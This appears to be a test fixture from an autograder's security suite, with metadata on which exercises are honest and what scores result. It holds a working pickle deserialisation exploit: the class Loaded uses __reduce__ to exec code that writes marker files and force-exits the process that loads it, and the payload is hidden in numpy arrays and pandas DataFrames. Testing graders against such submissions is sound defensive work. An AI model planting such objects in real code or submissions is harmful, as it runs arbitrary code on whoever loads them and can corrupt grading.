# ---
# attack: returns objects whose pickle runs code in whoever loads it, alone and inside arrays and frames
# kind: answer
# honest: [ex2, ex3]
# gets: {ex1-test: 0, ex2-test: 2, ex3-test: 2, ex4-test: 0, ex4-test-close: 0}
# student sees: "…Loaded…"
# ---
# %% ex1
class Loaded:
    def __reduce__(self):
        return exec, ("import os; open('@course@/@token@-pickle', 'w'); open('/tmp/@token@-pickle', 'w'); os._exit(0)",)

    __reduce_ex__ = lambda self, version: self.__reduce__()


def monthly_rate(annual):
    return np.array([Loaded()], dtype=object) if isinstance(annual, float) and annual else Loaded()


# %% ex4
def default_rates(loans):
    return pd.DataFrame({"grade": ["A", "B", "C", "D"], "rate": [Loaded(), Loaded(), Loaded(), Loaded()]})
